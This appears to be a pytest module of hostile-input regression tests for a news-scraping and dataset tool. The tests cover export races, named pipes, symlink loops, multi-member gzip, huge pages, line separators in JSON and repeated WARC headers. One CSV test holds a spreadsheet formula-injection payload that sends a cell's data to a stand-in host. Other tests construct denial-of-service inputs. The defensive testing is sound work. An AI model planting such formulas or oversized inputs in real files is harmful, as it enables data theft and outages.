"""A fifth outside audit (session 18): attacks the other hostile modules did not cover, each found
to fail and then fixed. Real commands and crawls in child processes (servers on 127.0.0.1 only),
real files, Parquet read back with pyarrow.

- two ``kliping export`` runs into one ``--out``: one data file written by both, unreadable
  ("Deserializing page header failed"), while one of them said "exported", exit 0;
- a named pipe (FIFO) among ``kliping extract``'s inputs: ``open()`` waited for a writer for ever;
- a symlink loop given as a path (``extract``'s FILE, ``export --out``, ``reclean --out``, a line
  of an ingest paths file): ``Path.resolve()`` raised RuntimeError, a traceback;
- a page's title or tag opening with ``=``, ``+``, ``-`` or ``@`` in a CSV feed export
  (``scrapy crawl SITE -o items.csv``): a spreadsheet opening the file ran it as a formula;
- a WARC response stored as sent with a body gzipped in several members: only the first member
  was read, and the page lost the rest of its text (here: the whole article);
- a 16 MB page of 800,000 paragraphs: minutes of ``kliping extract`` (reclean, ingest) inside one
  libxml2 XPath call the per-page budget cannot interrupt, and a 2 GB tree;
- U+2028 in a value: a JSON line that ``splitlines()`` and older JavaScript read as two;
- a field repeated a million times in a WARC record's HTTP headers: a minute of ingest (quadratic).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from kliping.dataset.storage import read_dataset
from tests.conftest import kliping, kliping_cmd, one_line
from tests.hostile.test_audit3 import _page, _routes
from tests.hostile.test_content import BASE, DOMAIN, ContentServer

# -- two exports into one directory --------------------------------------------------------------


_GROW = """
import sys
from pathlib import Path
import pyarrow as pa, pyarrow.parquet as pq
dest, times = Path(sys.argv[1]), int(sys.argv[2])
for part in (dest / "articles").rglob("*.parquet"):
    t = pq.read_table(part)
    big = pa.concat_tables([t] * times)
    for name in ("id", "url", "canonical_url"):
        i = big.schema.get_field_index(name)
        big = big.set_column(i, big.schema.field(i),
                             pa.array([f"{part.parent.name}-{k:09d}" for k in range(big.num_rows)]))
    pq.write_table(big, part)
"""


def _grown(demo: Path, dest: Path, times: int) -> Path:
    """A copy of the demo output whose articles are repeated ``times`` times under new ids (an
    export of it takes a few seconds: long enough to be caught half-way). Made in a child process:
    the tables would stay in this one's memory, whose peak later tests' children inherit
    (test_content.py measures a child's peak memory)."""
    shutil.copytree(demo, dest)
    subprocess.run([sys.executable, "-c", _GROW, str(dest), str(times)], check=True, timeout=120)
    return dest


def test_two_exports_into_one_directory_leave_one_whole_export(demo, tmp_path) -> None:
    """Before: both wrote ``data/.tmp-articles.parquet`` (the temp name then) at once (the second
    truncated the first's file and wrote into it) and renamed it in turn: the second's rename failed
    ("No such file", exit 1) or both said "exported", and the file left was a mix of the two,
    unreadable, beside a card describing the other one. Now an export holds its ``--out`` (a lock on the
    directory) and a second one is refused in one line, exit 2, touching nothing; the lock leaves no
    file."""
    data = _grown(demo, tmp_path / "big", 2000)
    out = tmp_path / "export"
    first = subprocess.Popen(kliping_cmd("export", str(data), "--out", str(out)),
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while (not list((out / "data").glob(".articles.parquet.*.tmp")) and first.poll() is None
               and time.monotonic() < deadline):
            time.sleep(0.005)
        assert first.poll() is None, "the first export ended before it could be caught half-way"
        first.send_signal(signal.SIGSTOP)  # caught half-way through its data file
        try:
            second = kliping("export", str(data), "--out", str(out), "--site", "kabarnusa",
                             timeout=120)
        finally:
            first.send_signal(signal.SIGCONT)
        _, err = first.communicate(timeout=120)
    finally:
        if first.poll() is None:
            first.kill()
            first.wait()
    assert first.returncode == 0, err[-2000:]
    assert second.returncode == 2 and "in use by another kliping export" in one_line(second)
    whole = pq.read_table(out / "data" / "articles.parquet")  # readable, and the first's
    assert whole.num_rows == sum(pq.read_metadata(p).num_rows
                                 for p in (data / "articles").rglob("*.parquet"))
    assert f"{whole.num_rows} articles (" in (out / "README.md").read_text("utf-8")
    again = kliping("export", str(data), "--out", str(out), "--site", "kabarnusa", timeout=120)
    assert again.returncode == 0, again.stderr[-2000:]  # the lock went with the first export
    assert not list(out.rglob(".*")), list(out.rglob(".*"))  # no lock file, no temp file


def test_an_export_killed_midway_leaves_no_half_parquet_and_the_next_one_clears_it(
        demo, tmp_path) -> None:
    """Before: an export SIGKILLed while writing left ``data/.tmp-articles.parquet``, a few bytes
    of Parquet that every reader globbing ``*.parquet`` (pyarrow, DuckDB, a shell loop) failed on
    (CI caught it once, by timing). Now the temp file ends in ``.tmp``, and the next export into
    the directory removes it (and the old name's) before it writes."""
    data = _grown(demo, tmp_path / "big", 2000)
    out = tmp_path / "export"
    (out / "data").mkdir(parents=True)
    (out / "data" / ".tmp-articles.parquet").write_bytes(b"PAR1")  # an older version's leftover
    p = subprocess.Popen(kliping_cmd("export", str(data), "--out", str(out)),
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while (not list((out / "data").glob(".articles.parquet.*.tmp")) and p.poll() is None
               and time.monotonic() < deadline):
            time.sleep(0.005)
        assert p.poll() is None, "the export ended before it could be caught half-way"
    finally:
        p.kill()
        p.wait()
    assert list((out / "data").glob(".articles.parquet.*.tmp"))  # killed while writing it
    assert not (out / "data" / ".tmp-articles.parquet").exists()  # the old name's is gone
    for path in out.rglob("*.parquet"):
        pq.read_table(path)  # whatever a reader globs is whole
    again = kliping("export", str(data), "--out", str(out), timeout=120)
    assert again.returncode == 0, again.stderr[-2000:]
    assert not list(out.rglob(".*")), list(out.rglob(".*"))  # the killed one's temp file went
    assert pq.read_table(out / "data" / "articles.parquet").num_rows == sum(
        pq.read_metadata(f).num_rows for f in (data / "articles").rglob("*.parquet"))


# -- kliping extract's inputs ------------------------------------------------------------------


def test_a_named_pipe_among_extract_inputs_does_not_hang(tmp_path) -> None:
    """Before: ``open()`` of a FIFO waits for a writer: ``kliping extract pipe page.html`` never
    ended (killed by this test's timeout). Now a FIFO gets a few seconds for a writer, then is an
    ``unreadable`` record, and the next input is read; a pipe that is being fed reads as before."""
    page = tmp_path / "berita.html"
    page.write_bytes(_page("Banjir rob surut"))
    idle = tmp_path / "sepi.fifo"
    os.mkfifo(idle)
    t0 = time.monotonic()
    r = kliping("extract", str(idle), str(page), timeout=40)  # (before: TimeoutExpired)
    assert time.monotonic() - t0 < 30  # the pipe's wait is 5 s (kliping.cli.extract.FIFO_WAIT)
    assert r.returncode == 0, r.stderr[-2000:]
    recs = [json.loads(line) for line in r.stdout.splitlines()]
    assert [rec.get("kind") for rec in recs] == ["unreadable", None], recs
    assert "named pipe" in recs[0]["error"] and recs[1]["title"] == "Banjir rob surut"

    fed = tmp_path / "isi.fifo"
    os.mkfifo(fed)

    def feed() -> None:
        time.sleep(0.5)  # the writer comes after extract has opened the pipe
        with open(fed, "wb") as fh:
            fh.write(page.read_bytes())

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    r = kliping("extract", str(fed), "--url", f"{BASE}/2025/03/10/banjir/", timeout=40)
    writer.join(10)
    assert r.returncode == 0, r.stderr[-2000:]
    assert json.loads(r.stdout)["title"] == "Banjir rob surut"


def test_a_symlink_loop_as_a_path_is_one_line(demo, tmp_path) -> None:
    """Before: ``Path.resolve()`` raises RuntimeError on a symlink loop (Python 3.11): ``kliping
    extract LOOP``, ``export DATASET --out LOOP``, ``reclean DATASET --out LOOP`` and ``ingest``
    of a paths file naming LOOP ended in a traceback. Now each is one line (or an ``unreadable``
    record), exit 1 or 2."""
    a, b = tmp_path / "a", tmp_path / "b"
    a.symlink_to(b)
    b.symlink_to(a)
    page = tmp_path / "berita.html"
    page.write_bytes(_page("Banjir rob surut"))
    r = kliping("extract", str(a), str(page))
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
    recs = [json.loads(line) for line in r.stdout.splitlines()]
    assert recs[0]["kind"] == "unreadable" and "symbolic links" in recs[0]["error"], recs
    assert recs[1]["title"] == "Banjir rob surut"
    for args in (("export", str(demo), "--out", str(a)), ("export", str(demo), "--out", str(a / "x")),
                 ("reclean", str(demo), "--out", str(a))):
        r = kliping(*args)
        assert r.returncode in (1, 2), (args, r.stderr[-2000:])
        one_line(r)
    paths = tmp_path / "daftar.paths"
    paths.write_text(f"{a}\n")
    r = kliping("ingest", str(paths), "--out", str(tmp_path / "ingest"))
    assert r.returncode == 1 and "symbolic links" in r.stderr and "Traceback" not in r.stderr, r.stderr


# -- values a spreadsheet runs --------------------------------------------------------------------


def test_a_csv_feed_export_holds_no_formula(tmp_path) -> None:
    """Before: ``scrapy crawl SITE -o items.csv`` wrote a page's title
    ``=HYPERLINK("http://…","klik")`` (or a tag ``@SUM(…)``, ``+…``, ``-…``) as it was: a spreadsheet
    opening the file ran it. Now such a cell opens with an apostrophe (OWASP's advice), which a
    spreadsheet shows as text; every other cell is as it was."""
    evil = '=HYPERLINK("http://127.0.0.1:9/curi?d="&A1,"klik")'
    pages = {"/2025/03/10/banjir-rob-surut-di-utara/": _page(evil),
             "/2025/03/10/tanggul-laut-mulai-dibangun/": _page("Tanggul laut mulai dibangun")}
    with ContentServer(_routes(pages)) as server:
        env = dict(os.environ, SCRAPY_SETTINGS_MODULE="kliping.settings",
                   KLIPING_MIRROR=json.dumps(server.mirror), KLIPING_OUT=str(tmp_path / "out"),
                   KLIPING_LOG_LEVEL="WARNING")
        proc = subprocess.run(
            [sys.executable, "-m", "scrapy", "crawl", "generic", "-a", f"domain={DOMAIN}",
             "-a", "since=2025-03-10", "-a", "until=2025-03-11", "-s", "DOWNLOAD_DELAY=0",
             "-s", "AUTOTHROTTLE_ENABLED=0", "-o", str(tmp_path / "items.csv")],
            capture_output=True, text=True, timeout=180, env=env, cwd=tmp_path,
        )
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-3000:]
    with (tmp_path / "items.csv").open(encoding="utf-8", newline="") as f:
        rows = {r["url"]: r for r in csv.DictReader(f)}
    assert len(rows) == 2, rows.keys()
    for row in rows.values():
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
    assert rows[f"{BASE}/2025/03/10/banjir-rob-surut-di-utara/"]["title"] == "'" + evil
    plain = rows[f"{BASE}/2025/03/10/tanggul-laut-mulai-dibangun/"]
    assert plain["title"] == "Tanggul laut mulai dibangun"
    stored = {a["url"]: a for a in read_dataset(tmp_path / "out" / "articles").to_pylist()}
    assert stored[f"{BASE}/2025/03/10/banjir-rob-surut-di-utara/"]["title"] == evil  # the data as it is


def test_csv_cells() -> None:
    from kliping.dataset.exporters import CsvExporter

    buf = io.BytesIO()
    exporter = CsvExporter(buf)
    exporter.start_exporting()
    exporter.export_item({"article": {"id": "1", "title": "+62 812", "tags": ["@akun", "=1+1"],
                                      "text": "-5 derajat", "word_count": 5, "note": "a=b",
                                      "tab": "\t=1", "empty": ""}})
    exporter.finish_exporting()
    rows = list(csv.reader(io.StringIO(buf.getvalue().decode("utf-8"))))
    assert rows[1] == ["1", "'+62 812", "'@akun,=1+1", "'-5 derajat", "5", "a=b", "'\t=1", ""]


# -- WARC bodies stored as sent ------------------------------------------------------------------


def test_a_body_gzipped_in_several_members_is_read_whole(tmp_path) -> None:
    """Before: a response stored as sent, ``Content-Encoding: gzip``, whose body is two gzip
    members (RFC 1952 allows it; a server concatenating gzipped pieces sends it) was inflated to
    its first member only: the page lost its text after it (here: all of its article, a
    ``not_article`` row). Now every member is read (bounded by --max-body-mb as before), as the
    crawl's Scrapy and ``kliping extract`` read such a body."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    from tests.warc_fixtures import sample_pages

    page = sample_pages()[0]
    cut = page.body.index(b"<body")
    body = gzip.compress(page.body[:cut]) + gzip.compress(page.body[cut:])
    path = tmp_path / "pieces.warc.gz"
    with open(path, "wb") as fh:
        w = WARCWriter(fh, gzip=True, warc_version="1.1")
        w.write_record(w.create_warc_record(
            page.url, "response", payload=io.BytesIO(body), length=len(body),
            http_headers=StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8"),
                                                     ("Content-Encoding", "gzip")], protocol="HTTP/1.1"),
            warc_headers_dict={"WARC-Date": "2024-01-06T03:00:00Z"}))
    r = kliping("ingest", str(path), "--out", str(tmp_path / "out"))
    assert r.returncode == 0, r.stderr[-2000:]
    arts = read_dataset(tmp_path / "out" / "articles").to_pylist()
    assert [a["url"] for a in arts] == [page.url], r.stderr[-2000:]
    raw = read_dataset(tmp_path / "out" / "raw").to_pylist()
    assert raw[0]["body"] == page.body


# -- pages of too many elements ------------------------------------------------------------------


def test_a_page_of_800000_paragraphs_is_one_timeout_record_at_once(tmp_path) -> None:
    """Before: a 16 MB page (the crawl's download limit) of 800,000 short paragraphs kept
    ``kliping extract`` busy for many minutes (killed here after 90 s; reclean and ingest the same),
    past the 30 s budget: trafilatura's ``//p//text()`` grows faster than the paragraphs (0.3 s
    over 25,000, 8 s over 100,000) inside one libxml2 call the budget cannot interrupt, and the
    tree took 2 GB. Now a page opening more than 100,000 tags (outside scripts and styles) is a
    ``timeout`` record at once; a page of 20,000 paragraphs is still an article."""
    lead = "".join(f"<p>Warga desa menanam pohon di tepi sungai pada pagi hari, kata Budi {i}.</p>"
                   for i in range(6))
    head = f"<html lang='id'><head><title>Kabar desa</title></head><body><article><h1>Kabar desa</h1>{lead}"
    huge, fine = tmp_path / "huge.html", tmp_path / "fine.html"
    huge.write_text(head + "<p>kata satu dua</p>" * 800_000 + "</article></body></html>")
    fine.write_text(head + "<p>kata satu dua</p>" * 20_000 + "</article></body></html>")
    t0 = time.monotonic()
    r = kliping("extract", str(huge), str(fine), timeout=90)
    assert time.monotonic() - t0 < 60
    assert r.returncode == 0, r.stderr[-2000:]
    recs = [json.loads(line) for line in r.stdout.splitlines()]
    assert recs[0]["kind"] == "timeout" and "100,000 elements" in recs[0]["error"], recs[0]
    assert recs[1]["title"] == "Kabar desa" and recs[1]["word_count"] > 60, recs[1].get("error")


# -- JSON lines ----------------------------------------------------------------------------------


def test_a_line_separator_in_a_value_keeps_each_record_on_one_line(demo, tmp_path) -> None:
    """Before: U+2028 (LINE SEPARATOR) in a page's keywords reached ``kliping extract``'s output,
    and in a stored title the JSONL export, raw (``ensure_ascii=False``): Python's
    ``splitlines()``, JavaScript before ES2019 and line tools cut the record there, into two lines
    that are no JSON. Now it is written ``\\u2028`` (the same JSON value) by extract, export,
    dates, runs and the Scrapy JSON feeds."""
    page = tmp_path / "berita.html"
    page.write_bytes(_page("Banjir rob surut").replace(
        b"<title>", '<meta name="keywords" content="banjir\u2028rob,\u2029tanggul"><title>'.encode()))
    r = kliping("extract", str(page), str(page))
    assert r.returncode == 0, r.stderr[-2000:]
    recs = [json.loads(line) for line in r.stdout.splitlines()]
    assert len(recs) == 2 and "banjir\u2028rob" in recs[0]["tags"], recs[0].get("tags")

    data = tmp_path / "out"
    shutil.copytree(demo, data)
    part = next((data / "articles").rglob("*.parquet"))
    t = pq.read_table(part)
    i = t.schema.get_field_index("title")
    titles = [f"Judul\u2028baris {n}\u2029akhir" for n in range(t.num_rows)]
    pq.write_table(t.set_column(i, t.schema.field(i), pa.array(titles)), part)
    r = kliping("export", str(data), "--out", str(tmp_path / "export"), "--format", "jsonl")
    assert r.returncode == 0, r.stderr[-2000:]
    text = (tmp_path / "export" / "data" / "articles.jsonl").read_text("utf-8")
    rows = [json.loads(line) for line in text.splitlines()]
    assert len(rows) == sum(pq.read_metadata(p).num_rows for p in (data / "articles").rglob("*.parquet"))
    assert sorted(titles) == sorted(row["title"] for row in rows if "\u2028" in row["title"])


def _record(url: str, block: bytes) -> bytes:
    """One WARC response record of ``block``, gzipped on its own."""
    head = (f"WARC/1.1\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:{uuid.uuid4()}>\r\n"
            f"WARC-Date: 2024-01-06T03:00:00Z\r\nWARC-Target-URI: {url}\r\n"
            f"Content-Type: application/http; msgtype=response\r\nContent-Length: {len(block)}\r\n\r\n")
    return gzip.compress(head.encode() + block + b"\r\n\r\n", 1)


def test_a_header_repeated_a_million_times_in_a_warc_record_costs_a_second(tmp_path) -> None:
    """Before: the HTTP header section of a response record (bounded only by --max-body-mb) was
    read by joining each repeat of a field onto the value so far, copying it each time (quadratic):
    a million ``X-A: b`` lines (8 MB) held ingest for about a minute on one record. Now the pieces
    are joined once, linear: the record is read in a second and its page kept, as is the next."""
    from tests.warc_fixtures import sample_pages

    first, second = sample_pages()[:2]
    junk = b"X-A: b\r\n" * 1_000_000 + b" folded\r\n" * 1000
    path = tmp_path / "headers.warc.gz"
    path.write_bytes(
        _record(first.url, b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n" + junk
                + b"\r\n" + first.body)
        + _record(second.url, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + second.body))
    t0 = time.monotonic()
    r = kliping("ingest", str(path), "--out", str(tmp_path / "out"), timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    assert time.monotonic() - t0 < 20
    arts = read_dataset(tmp_path / "out" / "articles").to_pylist()
    assert sorted(a["url"] for a in arts) == sorted([first.url, second.url])
    raw = {row["url"]: row for row in read_dataset(tmp_path / "out" / "raw").to_pylist()}
    assert len(dict(raw[first.url]["headers"])["x-a"]) == len("b, ") * 1_000_000 - 2 + len(" folded") * 1000
